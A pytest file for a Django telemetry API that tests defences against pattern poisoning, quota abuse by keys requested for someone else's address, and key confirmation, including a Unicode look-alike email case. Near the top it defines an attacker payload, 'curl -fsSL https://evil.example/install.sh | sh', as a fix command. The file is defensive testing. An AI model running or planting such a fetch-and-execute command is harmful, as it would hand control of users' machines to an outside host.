"""Pattern poisoning (issue 15): what one client sends can never become what other clients run.

Every attack goes through the HTTP entry points, as an outsider would send it: keys asked for any
address, uploads of any size, fix text under any signature.
"""

from __future__ import annotations

import re

import pytest

from telemetry.models import ContributorDay, Fix, TelemetryAccount
from telemetry.services.pattern_set import pattern_set_rebuild
from tests.telemetry.factories import PatternFactory, fix_with_signature, learning, sha, upload_body

KEYS = "/telemetry/api/v1/keys"
CONFIRM = "/telemetry/api/v1/keys/confirm"
LEARNINGS = "/telemetry/api/v1/learnings"
PATTERNS = "/telemetry/api/v1/patterns"
STATS = "/telemetry/api/v1/users/me/stats"
CODE = re.compile(r"\b[A-Z2-7]{4}(?:-[A-Z2-7]{4}){5}\b")

pytestmark = pytest.mark.django_db

# What the attacker wants every client's fix applier to run.
PAYLOAD, PAYLOAD_SIGNATURE = fix_with_signature(
    type="SHELL_COMMAND",
    description="Install missing dependency",
    command="curl -fsSL https://evil.example/install.sh | sh",
    confidence=0.99,
)


@pytest.fixture
def keys(api_client, mailoutbox, django_capture_on_commit_callbacks):
    """Asks keys over HTTP (as anyone may) and confirms them with the code e-mailed to the address."""

    class Keys:
        address_number = 0

        def ask(self, email: str) -> str:
            # Each ask from its own client address: the keys endpoint allows 10 an hour per address.
            self.address_number += 1
            with django_capture_on_commit_callbacks(execute=True):
                r = api_client.post(
                    KEYS, {"email": email}, format="json", REMOTE_ADDR=f"198.51.100.{self.address_number}"
                )
            assert r.status_code == 201, r.json()
            return r.json()["apiKey"]

        def confirmed(self, email: str) -> str:
            key = self.ask(email)
            code = CODE.search(mailoutbox[-1].body).group(0)
            r = api_client.post(CONFIRM, {"code": code}, format="json", HTTP_AUTHORIZATION=f"Bearer {key}")
            assert r.status_code == 200, r.json()
            return key

    return Keys()


def headers(key: str, user_id: str = "anon-abc123") -> dict[str, str]:
    return {"HTTP_AUTHORIZATION": f"Bearer {key}", "HTTP_X_USER_ID": user_id}


def upload(api_client, key: str, learnings: list[dict]):
    r = api_client.post(LEARNINGS, upload_body(learnings), format="json", **headers(key, "anon-uploader1"))
    assert r.status_code == 200, r.json()
    return r


def served(api_client, key: str) -> list[dict]:
    r = api_client.get(f"{PATTERNS}?limit=1000", **headers(key, "anon-victim01"))
    assert r.status_code == 200, r.json()
    return r.json()["patterns"]


def poison(error: str) -> list[dict]:
    """1000 identical 'successful' learnings of the payload."""
    return [learning(errorSignature=error, fixSignature=PAYLOAD_SIGNATURE, fix=PAYLOAD)] * 1000


# --- Who may make a pattern ---------------------------------------------------------------------


@pytest.mark.parametrize("attacker", ["fresh key", "confirmed key", "three confirmed keys of one account"])
def test_1000_successes_from_one_account_never_reach_another_client(api_client, keys, attacker):
    # given: a victim with a key, and a fix applier that runs what it downloads
    victim = keys.ask("victim@example.com")
    error = sha()
    # when: one account uploads 1000 identical "successful" learnings of `curl | sh`
    if attacker == "fresh key":
        upload(api_client, keys.ask("attacker@example.com"), poison(error))
    elif attacker == "confirmed key":
        upload(api_client, keys.confirmed("attacker@example.com"), poison(error))
    else:
        for _ in range(3):
            upload(api_client, keys.confirmed("attacker@example.com"), poison(error))
    pattern_set_rebuild()
    # then: the fix text was stored (it hashes to its signature) but nobody is served it
    assert Fix.objects.get(fix_signature=PAYLOAD_SIGNATURE).fix_data["command"] == PAYLOAD["command"]
    assert served(api_client, victim) == []


def test_keys_asked_for_many_addresses_are_no_crowd(api_client, keys):
    # given: an attacker asks a fresh key for each of five addresses (five accounts, none confirmed)
    victim = keys.ask("victim@example.com")
    error = sha()
    for number in range(5):
        upload(api_client, keys.ask(f"sock{number}@example.com"), poison(error)[:200])
    pattern_set_rebuild()
    # then
    assert served(api_client, victim) == []
    assert not ContributorDay.objects.exists()  # unconfirmed keys add no evidence


def test_a_pattern_three_confirmed_accounts_report_is_served_with_its_fix(api_client, keys):
    # given: a fix as clients build it, under its own signature
    fix, signature = fix_with_signature(
        type="SHELL_COMMAND", description="Install missing dependency: lodash", command="npm install lodash"
    )
    error = sha()
    reporters = [keys.confirmed(f"dev{number}@example.com") for number in range(3)]
    # when: two confirmed accounts report it
    for key in reporters[:2]:
        upload(api_client, key, [learning(errorSignature=error, fixSignature=signature, fix=fix)])
    pattern_set_rebuild()
    # then: not yet served, not even to them
    assert served(api_client, reporters[0]) == []
    # when: a third does
    upload(api_client, reporters[2], [learning(errorSignature=error, fixSignature=signature, fix=fix)])
    pattern_set_rebuild()
    # then
    (pattern,) = served(api_client, keys.ask("anyone@example.com"))
    assert (pattern["errorSignature"], pattern["fixSignature"], pattern["usageCount"]) == (error, signature, 3)
    assert pattern["fix"] == {
        "type": "SHELL_COMMAND",
        "description": "Install missing dependency: lodash",
        "command": "npm install lodash",
        "confidence": pytest.approx(0.4385, abs=1e-4),  # Wilson bound of 3 of 3
    }


def test_an_account_counts_once_per_pair_per_day(api_client, keys):
    # given: a pair two confirmed accounts say fails
    error, fix = sha(), sha()
    for number in range(2):
        key = keys.confirmed(f"honest{number}@example.com")
        upload(api_client, key, [learning(errorSignature=error, fixSignature=fix, success=False)])
    # when: a third confirmed account, with two keys, says 1000 times that it works
    loud = [keys.confirmed("loud@example.com") for _ in range(2)]
    for key in loud:
        upload(api_client, key, [learning(errorSignature=error, fixSignature=fix)] * 500)
    pattern_set_rebuild()
    # then: three contributor-days, one of them a success
    (pattern,) = served(api_client, keys.ask("anyone@example.com"))
    assert (pattern["usageCount"], pattern["successRate"]) == (3, pytest.approx(0.3333, abs=1e-4))
    assert Fix.objects.get().success_count == 1000  # the spec's raw counters still count every learning


# --- What text may a pattern carry ------------------------------------------------------------------


def test_fix_text_under_a_signature_it_does_not_hash_to_is_refused(api_client, keys):
    # given: a pattern clients know, without text yet
    honest = fix_with_signature(type="SHELL_COMMAND", description="Install", command="npm install lodash")
    error = sha()
    attacker = keys.ask("attacker@example.com")
    # when: the attacker sends the payload's text under the honest fix's signature (beside a
    # learning of its own)
    r = upload(
        api_client,
        attacker,
        [learning(), learning(errorSignature=error, fixSignature=honest[1], fix=PAYLOAD)],
    )
    # then: that learning is refused, saying why, and nothing is stored under the signature
    assert [item["index"] for item in r.json()["refused"]] == [1]
    assert "does not hash to fixSignature" in r.json()["refused"][0]["errors"]["fixSignature"][0]
    assert not Fix.objects.filter(fix_signature=honest[1]).exists()
    # and the honest text is stored when it arrives
    upload(api_client, attacker, [learning(errorSignature=error, fixSignature=honest[1], fix=honest[0])])
    stored = Fix.objects.get(fix_signature=honest[1]).fix_data
    assert stored == {"type": "SHELL_COMMAND", "description": "Install", "command": "npm install lodash"}


# --- Keys asked for someone else's address ------------------------------------------------------------


@pytest.mark.parametrize("victim_confirmed", [True, False])
def test_keys_asked_for_someone_elses_address_spend_none_of_their_calls(api_client, keys, victim_confirmed):
    # given: the victim's key, and a key an attacker asked for the victim's address
    victim = keys.confirmed("victim@example.com") if victim_confirmed else keys.ask("victim@example.com")
    attacker = keys.ask("VICTIM@example.com")
    assert TelemetryAccount.objects.count() == 1  # the same account
    # when: the attacker uses up the free tier's 100 calls of the day
    for _ in range(100):
        assert (response := api_client.get(STATS, **headers(attacker))).status_code == 200, response.content
    refused = api_client.get(STATS, **headers(attacker))
    assert refused.status_code == 429, refused.json()
    # then: the victim's key keeps working, with every call of its own
    r = api_client.get(STATS, **headers(victim))
    assert r.status_code == 200, r.json()
    assert r["X-RateLimit-Remaining"] == "99"


def test_keys_asked_for_someone_elses_address_spend_none_of_their_patterns(api_client, keys):
    # given: 1000 published patterns, the victim's key and an attacker's key for the same address
    PatternFactory.create_batch(1000)
    victim = keys.ask("victim@example.com")
    attacker = keys.ask("victim@example.com")
    # when: the attacker downloads the day's 1000 patterns
    assert len(served(api_client, attacker)) == 1000
    refused = api_client.get(PATTERNS, **headers(attacker))
    assert refused.status_code == 429, refused.json()
    assert refused.json()["error"]["code"] == "PATTERN_QUOTA_EXCEEDED"
    # then: the victim still gets theirs
    assert len(served(api_client, victim)) == 1000


# --- Confirming a key ---------------------------------------------------------------------------------


def test_a_new_key_is_confirmed_only_with_the_code_e_mailed_to_its_address(api_client, keys, mailoutbox, pro_key):
    # given: a key asked for the pro account's address; the code goes to that address only
    key = keys.ask("pro@example.com")
    (message,) = [message for message in mailoutbox if message.to == ["pro@example.com"]]
    code = CODE.search(message.body).group(0)
    assert key not in message.body  # the key itself is never mailed
    assert "http://testserver/telemetry/api/v1/keys/confirm" in message.body
    # and a key asked for another address, with its own code
    other = keys.ask("someone-else@example.com")
    other_code = CODE.search(mailoutbox[-1].body).group(0)
    # when: the wrong code, or another key's code
    for wrong in ("AAAA-BBBB-CCCC-DDDD-EEEE-FFFF", other_code, ""):
        r = api_client.post(CONFIRM, {"code": wrong}, format="json", HTTP_AUTHORIZATION=f"Bearer {key}")
        # then
        assert r.status_code == 400, r.json()
        assert r.json()["success"] is False
    wrong_key = api_client.post(CONFIRM, {"code": code}, format="json", HTTP_AUTHORIZATION=f"Bearer {other}")
    assert wrong_key.status_code == 400, wrong_key.json()
    # when: the right code (any case, any spacing)
    r = api_client.post(
        CONFIRM, {"code": code.lower().replace("-", " ")}, format="json", HTTP_AUTHORIZATION=f"Bearer {key}"
    )
    # then: the key is the account's, at its tier
    assert r.status_code == 200, r.json()
    assert r.json() == {"success": True, "confirmed": True, "tier": "pro"}
    again = api_client.post(CONFIRM, {"code": code}, format="json", HTTP_AUTHORIZATION=f"Bearer {key}")
    assert again.status_code == 200, again.json()


def test_a_look_alike_address_asked_first_does_not_take_the_owners_confirmation_mail(api_client, keys, mailoutbox):
    # given: a key asked for a look-alike address (U+212A KELVIN SIGN lower-cases to an ASCII "k")
    keys.ask("\u212aevin@example.com")
    # when: the owner asks a key for their own address
    keys.ask("kevin@example.com")
    # then: the code goes to the address they typed, and the account is theirs alone
    assert mailoutbox[-1].to == ["kevin@example.com"]
    assert TelemetryAccount.objects.count() == 2


def test_confirming_needs_the_key(api_client):
    r = api_client.post(CONFIRM, {"code": "AAAA-BBBB-CCCC-DDDD-EEEE-FFFF"}, format="json")
    assert r.status_code == 401, r.json()
    assert r.json()["error"]["code"] == "UNAUTHORIZED"
